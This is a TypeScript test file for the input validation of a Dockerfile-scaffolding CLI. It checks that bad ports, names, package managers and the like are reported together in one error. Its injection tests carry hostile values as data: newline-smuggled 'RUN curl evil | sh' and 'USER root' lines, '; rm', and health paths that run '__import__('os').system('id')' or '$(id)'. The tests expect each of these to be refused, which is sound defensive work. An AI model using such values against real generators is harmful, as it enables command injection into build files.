// Validation: every problem in ONE AnswersError (exit 2), each naming the key and a fix
// that names the flag; values that would break out of their line in a generated file
// (newlines, control characters, quotes, shell syntax) are refused.
import { describe, expect, it } from "vitest";
import { AnswersError, EXIT, PresetError, type AnswerProblem } from "../../src/errors.js";
import { loadPreset } from "../../src/presets/load-preset.js";
import { resolveAnswers } from "../../src/model/resolve.js";
import { tempDir } from "../helpers/tmp.js";

const FLASK = { language: "python", framework: "flask" };

function problems(answers: Record<string, unknown>): AnswerProblem[] {
  try {
    resolveAnswers([{ source: "flag", explicit: true, answers }], { dirName: "app" });
  } catch (err) {
    expect(err).toBeInstanceOf(AnswersError);
    expect((err as AnswersError).exitCode).toBe(EXIT.usage);
    const e = err as AnswersError;
    // The message carries every problem with its fix.
    for (const p of e.problems) expect(e.message).toContain(`  - ${p.key}: ${p.message}\n    fix: ${p.fix}`);
    return e.problems;
  }
  throw new Error(`no AnswersError for ${JSON.stringify(answers)}`);
}

function only(answers: Record<string, unknown>, key: string): AnswerProblem {
  const list = problems(answers);
  expect(list.map((p) => p.key)).toEqual([key]);
  return list[0]!;
}

function accepted(answers: Record<string, unknown>) {
  return resolveAnswers([{ source: "flag", explicit: true, answers }], { dirName: "app" }).answers;
}

describe("one AnswersError for every problem", () => {
  it("reports all problems together, each with its key and its flag", () => {
    const list = problems({
      language: "python",
      framework: "flask",
      packageManager: "bun",
      port: 80,
      name: "Bad Name",
      healthPath: "health",
      base: "distroless",
      uid: 0,
      startCommand: "gunicorn app:app\nRUN curl evil | sh",
      security: { readOnly: "yes", memory: "lots", bindAddress: "0.0.0.0; rm" },
    });
    const byKey = Object.fromEntries(list.map((p) => [p.key, p]));
    expect(Object.keys(byKey).sort()).toEqual(
      ["base", "gid", "healthPath", "name", "packageManager", "port", "security.bindAddress", "security.memory", "security.readOnly", "startCommand", "uid"].sort(),
    );
    expect(byKey.packageManager!.fix).toContain("--package-manager");
    expect(byKey.port!.fix).toContain("--port");
    expect(byKey.name!.fix).toContain("--name");
    expect(byKey.healthPath!.fix).toContain("--health-path");
    expect(byKey.base!.fix).toContain("--base slim");
    expect(byKey.uid!.fix).toContain("--uid");
    expect(byKey.startCommand!.fix).toContain("--start-command");
    expect(byKey["security.readOnly"]!.fix).toContain("--set security.readOnly=");
  });
});

describe("language and framework", () => {
  it("an unknown language names the flag and the choices", () => {
    const p = only({ language: "cobol", framework: "none", startCommand: "run" }, "language");
    expect(p.message).toContain('"cobol"');
    expect(p.fix).toContain("--language");
    expect(p.fix).toContain("python, node, go");
  });

  it("distroless Java is refused for a Java release that has no distroless image", () => {
    const p = only({ language: "java", framework: "spring-boot", packageManager: "maven", runtimeVersion: "11", base: "distroless", startCommand: "java -jar /app/app.jar" }, "base");
    expect(p.message).toContain("Java 17 and 21 only");
    expect(p.fix).toContain("--base slim");
  });

  it.each([
    ["python", "express"],
    ["node", "flask"],
    ["go", "django"],
  ])("%s + %s is refused as a framework problem, listing that language's frameworks", (language, framework) => {
    const p = only({ language, framework, startCommand: "x" }, "framework");
    expect(p.message).toBe(`"${framework}" is not a ${language} framework`);
    expect(p.fix).toMatch(/^use --framework with one of: /);
    expect(p.fix).not.toContain(framework);
  });
});

describe("package manager", () => {
  it.each([
    ["python", "bun", "is not a python package manager"],
    ["node", "pip", "is not a node package manager"],
    ["python", "pipenv", "pipenv is not supported for python yet"],
    ["node", "bun", "bun is not supported for node yet"],
  ])("%s + %s: %s", (language, packageManager, message) => {
    const framework = language === "python" ? "flask" : "express";
    const p = only({ language, framework, packageManager }, "packageManager");
    expect(p.message).toContain(message);
    expect(p.fix).toMatch(/^use --package-manager with one of: /);
  });

  it.each([
    ["python", "uv"],
    ["python", "poetry"],
    ["node", "pnpm"],
    ["node", "yarn"],
  ])("%s + %s is accepted", (language, packageManager) => {
    const framework = language === "python" ? "flask" : "express";
    expect(accepted({ language, framework, packageManager }).packageManager).toBe(packageManager);
  });
});

describe("port", () => {
  it.each([80, 1023, 65536, 0, -1, 8000.5, "abc", "80", "8000x", "", true, null])("%j is refused", (port) => {
    const p = only({ ...FLASK, port }, "port");
    expect(p.message).toContain("is not a whole number from 1024 to 65535");
    expect(p.fix).toContain("--port");
  });

  it.each([1024, 65535, "8000", " 8001 "])("%j is accepted as a number", (port) => {
    expect(accepted({ ...FLASK, port }).port).toBe(Number(port));
  });
});

describe("injection: no answer may break out of its line", () => {
  const CONTROL = ["\n", "\r", "\u0000", "\u001b", "\t", "\u007f", "\u2028", "\u2029"];

  it.each(CONTROL)("a start command string with %j is refused", (ch) => {
    const p = only({ ...FLASK, startCommand: `gunicorn app:app${ch}RUN evil` }, "startCommand");
    expect(p.message).toContain("newline or control character");
    expect(p.fix).toContain("--start-command");
  });

  it("a start command list with a newline in a word is refused", () => {
    const p = only({ ...FLASK, startCommand: ["gunicorn", "app:app\nUSER root"] }, "startCommand");
    expect(p.message).toContain("newline or control character");
  });

  it("a build command with a newline is refused", () => {
    const p = only({ language: "node", framework: "nestjs", buildCommand: "npm run build\nRUN evil" }, "buildCommand");
    expect(p.message).toContain("newline or control character");
  });

  it.each(CONTROL)("a name with %j is refused", (ch) => {
    const p = only({ ...FLASK, name: `app${ch}evil` }, "name");
    expect(p.fix).toContain("--name");
  });

  it.each(["3.12\nRUN evil", "3.12 ", "latest", "3.12.1", ""])("runtimeVersion %j is refused", (runtimeVersion) => {
    const p = only({ ...FLASK, runtimeVersion }, "runtimeVersion");
    expect(p.fix).toContain("--runtime-version");
  });

  it.each(["512m\nx", "lots"])("security.memory %j is refused", (memory) => {
    only({ ...FLASK, security: { memory } }, "security.memory");
  });

  it("an empty start command, or one with an empty word, is refused", () => {
    expect(only({ ...FLASK, startCommand: "  " }, "startCommand").message).toContain("empty");
    expect(only({ ...FLASK, startCommand: ["gunicorn", ""] }, "startCommand").message).toContain("empty");
  });

  it("an unterminated quote in a start command is refused", () => {
    expect(only({ ...FLASK, startCommand: "gunicorn 'app:app" }, "startCommand").message).toContain("unterminated");
  });

  it.each([{ run: "x" }, null, 42])("a start command %j, neither text nor a list of words, is refused", (startCommand) => {
    expect(only({ ...FLASK, startCommand }, "startCommand").message).toContain("must be a command string or a list");
  });
});

describe("name", () => {
  it.each(["Bad", "my app", "-app", ".app", "a".repeat(64), "app/x", 'app"', 42])("%j is refused", (name) => {
    expect(only({ ...FLASK, name }, "name").fix).toContain("--name");
  });

  it.each(["app", "my-app.v2", "0x_y"])("%j is accepted", (name) => {
    expect(accepted({ ...FLASK, name }).name).toBe(name);
  });
});

describe("health path", () => {
  it.each([
    "health",
    "/he alth",
    "/a\nb",
    // Each would break out of the Python/Node string literal in the HEALTHCHECK, or run
    // shell code in the Makefile's `curl` line.
    "/x'),__import__('os').system('id'),('",
    "/h;id",
    "/h&&id",
    "/h$(id)",
    "/h`id`",
    '/h"',
    "/h?x=1",
    "/h#x",
  ])("%j is refused", (healthPath) => {
    const p = only({ ...FLASK, healthPath }, "healthPath");
    expect(p.fix).toContain("--health-path");
    expect(p.fix).toContain("healthPath=null");
  });

  it.each(["/health", "/healthz", "/actuator/health", "/", "/api/v1/ping.json", "/~status", "/a-b_c/%2F", "/a:b@c+d,e=f"])("%j is accepted", (healthPath) => {
    expect(accepted({ ...FLASK, healthPath }).healthPath).toBe(healthPath);
  });

  it("null is a TCP probe", () => {
    expect(accepted({ ...FLASK, healthPath: null }).healthPath).toBeNull();
  });
});

describe("base, uid, security, services", () => {
  it("python + distroless is refused with --base slim as the fix", () => {
    const p = only({ ...FLASK, base: "distroless" }, "base");
    expect(p.message).toContain("distroless is not offered for Python");
    expect(p.fix).toBe("use --base slim");
  });

  it("an unknown base is refused", () => {
    expect(only({ language: "node", framework: "express", base: "alpine" }, "base").fix).toContain("--base");
  });

  it.each([0, -5, "root", 1.5])("uid %j is refused", (uid) => {
    expect(problems({ ...FLASK, uid }).map((p) => p.key)).toContain("uid");
  });

  it("unknown security keys and wrong types are each reported", () => {
    const list = problems({ ...FLASK, security: { readOnly: "false", cpus: 0, pids: 0, colour: "red", bindAddress: "localhost" } });
    expect(list.map((p) => p.key).sort()).toEqual(["security.bindAddress", "security.colour", "security.cpus", "security.pids", "security.readOnly"]);
  });

  it("backing services: the known ones pass, each once", () => {
    expect(accepted({ ...FLASK, services: ["postgres", "redis", "prometheus", "grafana"] }).services).toEqual(["postgres", "redis", "prometheus", "grafana"]);
    expect(accepted({ ...FLASK, services: "redis, postgres" }).services).toEqual(["redis", "postgres"]);
    expect(only({ ...FLASK, services: ["redis", "redis"] }, "services").message).toContain("twice");
    expect(only({ ...FLASK, services: { postgres: true } }, "services").message).toContain("not a list");
  });

  it("an unknown backing service is refused, naming the known ones", () => {
    const p = only({ ...FLASK, services: ["postgres", "mongodb"] }, "services");
    expect(p.message).toContain('"mongodb" is not a backing service');
    expect(p.fix).toContain("postgres, redis, prometheus, grafana");
  });
});

describe("missing answers in non-interactive mode", () => {
  it("lists every missing answer at once, each with its flag", () => {
    try {
      resolveAnswers([{ source: "flag", explicit: true, answers: {} }], { dirName: "app" });
      throw new Error("no error");
    } catch (err) {
      expect(err).toBeInstanceOf(AnswersError);
      const e = err as AnswersError;
      expect(e.exitCode).toBe(2);
      expect(e.message).toMatch(/^Missing answers/);
      expect(e.problems.map((p) => p.key)).toEqual(["language", "framework"]);
      expect(e.problems[0]!.fix).toContain("--language <python|node|go|rust|java>");
      expect(e.problems[1]!.fix).toContain("--framework <name>");
      expect(e.problems[0]!.fix).toContain("--preset");
    }
  });

  it("a framework without a conventional start command needs --start-command", () => {
    for (const language of ["python", "node"]) {
      const p = only({ language, framework: "none" }, "startCommand");
      expect(p.message).toContain("has no default");
      expect(p.fix).toContain("--start-command <cmd>");
    }
    // Go's is the binary it builds.
    expect(accepted({ language: "go", framework: "none" }).startCommand).toEqual(["/app/server"]);
  });

  it("missing answers are reported together with the other invalid answers", () => {
    const keys = problems({ language: "python", port: 80, name: "Bad", healthPath: "nope" }).map((p) => p.key);
    expect(keys.sort()).toEqual(["framework", "healthPath", "name", "port"]);
  });

  it("an unknown language is reported with the missing framework, not hidden by it", () => {
    const keys = problems({ language: "cobol", port: 99999 }).map((p) => p.key);
    expect(keys.sort()).toEqual(["framework", "language", "port"]);
  });

  it("a framework of another language is reported as such, not as a missing start command", () => {
    const p = only({ language: "python", framework: "express" }, "framework");
    expect(p.message).toBe('"express" is not a python framework');
  });
});

describe("presets", () => {
  it("an unknown preset is exit 2, naming it and the presets to choose from", () => {
    try {
      loadPreset("python-flsk", tempDir());
      throw new Error("no error");
    } catch (err) {
      expect(err).toBeInstanceOf(PresetError);
      expect((err as PresetError).exitCode).toBe(2);
      expect((err as Error).message).toContain('Unknown preset "python-flsk"');
      expect((err as Error).message).toContain("python-flask");
      expect((err as Error).message).toContain("docker-scaffold presets");
    }
  });

  it("a missing preset file is exit 2", () => {
    expect(() => loadPreset("./nope.yaml", tempDir())).toThrow(PresetError);
  });
});
